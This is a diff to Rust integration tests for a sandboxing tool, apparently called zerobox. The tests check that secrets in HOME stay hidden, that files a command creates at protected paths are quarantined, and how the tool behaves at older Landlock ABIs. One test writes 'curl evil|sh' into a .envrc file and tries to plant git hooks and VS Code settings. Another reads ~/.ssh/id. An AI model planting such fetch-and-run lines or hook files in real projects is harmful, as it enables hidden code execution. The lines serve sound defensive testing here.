@@ -53,7 +53,9 @@ fn default_allows_reads() {
 }
 
 /// The built-in deny list hides secrets in HOME, and a denied path that does
-/// not exist yet cannot be created even when its parent is writable.
+/// not exist yet, created when its parent is writable, does not stay at its
+/// name after the run (quarantined, with a warning; see
+/// docs/threat-model.md, "Protected paths that do not exist").
 #[test]
 fn default_deny_list_hides_secrets() {
     let home = scratch();
@@ -80,21 +82,15 @@ fn default_deny_list_hides_secrets() {
         .unwrap();
     let r = common::Run::from(out);
     assert_eq!(r.code, 0, "{r:?}");
-    for secret in [
-        "PRIVATE",
-        "AWSKEY",
-        "HIST",
-        "NETRC",
-        "id_ed25519",
-        "CREATED",
-    ] {
+    for secret in ["PRIVATE", "AWSKEY", "HIST", "NETRC", "id_ed25519"] {
         assert!(!r.stdout.contains(secret), "{secret} leaked: {r:?}");
     }
     assert!(r.stdout.contains("public"), "{r:?}");
     assert!(r.stdout.contains("wrote-new"), "{r:?}");
-    // Placeholders for missing denied paths are gone after the run.
-    assert!(!h.join(".kube").exists(), "placeholder left behind");
+    // What the command created at missing denied names is moved aside.
+    assert!(!h.join(".kube").exists(), "created .kube left at its name");
     assert!(!h.join(".git-credentials").exists());
+    assert!(r.stderr.contains(".git-credentials was created"), "{r:?}");
     assert_eq!(std::fs::read_to_string(h.join("new.txt")).unwrap(), "new\n");
 }
 
@@ -158,7 +154,7 @@ fn environment_allow_list_and_flags() {
 
     let out = zerobox()
         .current_dir(cwd.path())
-        .env("MY_TOKEN", "tok")
+        .env("MY_VALUE", "tok")
         .env("MY_OTHER", "o")
         .env("LC_ALL", "C")
         .args([
@@ -172,7 +168,9 @@ fn environment_allow_list_and_flags() {
         .output()
         .unwrap();
     let r = common::Run::from(out);
-    assert!(r.stdout.contains("MY_TOKEN=tok\n"), "{r:?}");
+    // (A credential-looking MY_TOKEN would be withheld from MY_*: see
+    // tests/network.rs secret_sources_and_env_wildcards_are_hardened.)
+    assert!(r.stdout.contains("MY_VALUE=tok\n"), "{r:?}");
     assert!(
         !r.stdout.contains("MY_OTHER") && !r.stdout.contains("LC_ALL"),
         "{r:?}"
@@ -695,7 +693,7 @@ fn capable_machine_gets_every_layer_without_warning() {
     let d = scratch();
     let doctor = run_in(d.path(), &["doctor"]);
     if !doctor.stdout.contains("Each run gets: all layers") {
-        eprintln!("SKIP: this machine lacks a layer:\n{}", doctor.stdout);
+        common::skip(&format!("this machine lacks a layer:\n{}", doctor.stdout));
         return;
     }
     for args in [
@@ -722,17 +720,28 @@ fn profile_applies_a_preset_to_a_plain_run() {
         "echo 'curl evil|sh' > .envrc 2>/dev/null && echo ENVRC-WRITTEN; \
          mkdir -p .git/hooks/x 2>/dev/null && echo HOOKS-WRITTEN; \
          test -f .vscode/settings.json && test \"$(cat .vscode/settings.json)\" = '{}' && echo json-file; \
-         echo '{}' > .vscode/settings.json 2>/dev/null && echo VSCODE-WRITTEN; \
+         mkdir -p .vscode && echo '{}' > .vscode/settings.json 2>/dev/null && echo VSCODE-WRITTEN; \
          echo ok > ok.txt && cat ok.txt",
     );
-    // A missing protected file (it has an extension) is held by a
-    // read-only file, so programs that read it see a file, not a
-    // directory: `{}` for JSON (empty is invalid JSON), else empty.
-    assert_eq!(r.stdout, "json-file\nok\n", "{r:?}");
+    // No placeholder: a missing protected file is missing inside too. What
+    // the command creates there is moved aside after the run, with a
+    // warning for each.
     assert!(
-        !p.join(".envrc").exists() && !p.join(".git").exists() && !p.join(".vscode").exists(),
-        "placeholder left behind"
+        r.stdout.ends_with("ok\n") && !r.stdout.contains("json-file"),
+        "{r:?}"
     );
+    assert!(
+        !p.join(".envrc").exists()
+            && !p.join(".git/hooks").exists()
+            && !p.join(".vscode/settings.json").exists(),
+        "a protected path created by the command stayed: {r:?}"
+    );
+    for name in [".envrc", ".git/hooks", ".vscode/settings.json"] {
+        assert!(
+            r.stderr.contains(&format!("{name} was created")),
+            "{name}: {r:?}"
+        );
+    }
     let r = run_in(&p, &["--profile", "no-such-profile-zb", "--", "true"]);
     assert_eq!(r.code, 2, "{r:?}");
     assert!(r.stderr.contains("no-such-profile-zb"), "{r:?}");
@@ -848,4 +857,91 @@ fn preset_cache_is_never_writable_inside() {
     let r = common::Run::from(out);
     assert_eq!(r.stdout, "denied\nother-ok\n", "{r:?}");
     assert!(!p.join("cache/zerobox/serial").exists());
+}
+
+/// Older kernels, simulated (`ZEROBOX_SIMULATE_LANDLOCK_ABI=N` can only
+/// lower the ABI): doctor and explain say what holds; the Landlock-only
+/// fallback still denies the secrets at every ABI; network without a
+/// network namespace is refused below ABI 4 (no TCP rules) with exit 125.
+#[test]
+fn simulated_older_landlock_abis_take_their_own_paths() {
+    let d = scratch();
+    let p = common::real(d.path());
+    std::fs::create_dir(p.join(".ssh")).unwrap();
+    std::fs::write(p.join(".ssh/id"), "ZB-SIM-ABI-SECRET").unwrap();
+    let kernel = zerobox::sandbox::linux::sys::landlock_abi();
+    if kernel < 6 {
+        common::skip("kernel Landlock ABI < 6: cannot simulate the ABIs below it all");
+        return;
+    }
+    let zb = |abi: &str, fallback: bool, args: &[&str]| {
+        let mut c = common::zerobox();
+        c.current_dir(&p)
+            .env("HOME", &p)
+            .env("ZEROBOX_SIMULATE_LANDLOCK_ABI", abi);
+        if fallback {
+            c.env("ZEROBOX_SIMULATE_MISSING", "userns");
+        }
+        common::Run::from(c.args(args).output().unwrap())
+    };
+    for abi in [1, 3, 4, 5, 6] {
+        let n = abi.to_string();
+        let doc = zb(&n, false, &["doctor"]);
+        assert!(doc.stdout.contains(&format!("ABI {abi}\n")), "{doc:?}");
+        let tcp = doc
+            .stdout
+            .lines()
+            .find(|l| l.contains("TCP bind/connect"))
+            .unwrap();
+        assert!(
+            tcp.ends_with(if abi >= 4 { "yes" } else { "no" }),
+            "{doc:?}"
+        );
+        let ex = zb(&n, false, &["explain", "--", "true"]);
+        assert!(ex.stdout.contains(&format!("landlock ABI {abi}")), "{ex:?}");
+        let r = zb(&n, true, &["--", "sh", "-c", "cat ~/.ssh/id; echo ran"]);
+        assert_eq!(r.code, 0, "ABI {abi}: {r:?}");
+        assert!(
+            r.stdout.contains("ran") && !r.stdout.contains("ZB-SIM-ABI-SECRET"),
+            "{r:?}"
+        );
+        let net = zb(&n, true, &["--allow-net=a.test", "--", "true"]);
+        if abi < 4 {
+            assert_eq!(net.code, 125, "ABI {abi}: {net:?}");
+            assert!(net.stderr.contains("ABI >= 4"), "{net:?}");
+        } else {
+            // (The fallback may refuse network for its own reasons; never
+            // for lack of TCP rules at this ABI.)
+            assert!(!net.stderr.contains("ABI >= 4"), "ABI {abi}: {net:?}");
+        }
+    }
+    // A simulated ABI above the kernel's changes nothing.
+    let doc = zb("99", false, &["doctor"]);
+    assert!(doc.stdout.contains(&format!("ABI {kernel}\n")), "{doc:?}");
+}
+
+/// `explain` prints the plan a run executes: the mode, the mounts and the
+/// protected paths guarded from outside (no placeholders); the run then
+/// quarantines exactly what the command created at a guarded name.
+#[test]
+fn explain_shows_the_plan_the_run_executes() {
+    let d = scratch();
+    let p = common::real(d.path());
+    let args = ["--profile", "protect-shell", "--allow-write=."];
+    let mut full = vec!["explain"];
+    full.extend(args);
+    full.extend(["--", "true"]);
+    let ex = run_in(&p, &full);
+    assert_eq!(ex.code, 0, "{ex:?}");
+    assert!(ex.stdout.contains("mode: namespaces"), "{ex:?}");
+    let envrc = p.join(".envrc").display().to_string();
+    assert!(ex.stdout.contains(&format!("- {envrc}\n")), "{ex:?}");
+    assert!(
+        ex.stdout.contains(&format!("path: {}", p.display())),
+        "{ex:?}"
+    );
+    let r = sh_in(&p, &args, "echo x > .envrc; echo y > other");
+    assert_eq!(r.code, 0, "{r:?}");
+    assert!(r.stderr.contains(&format!("{envrc} was created")), "{r:?}");
+    assert!(!p.join(".envrc").exists() && p.join("other").exists());
 }
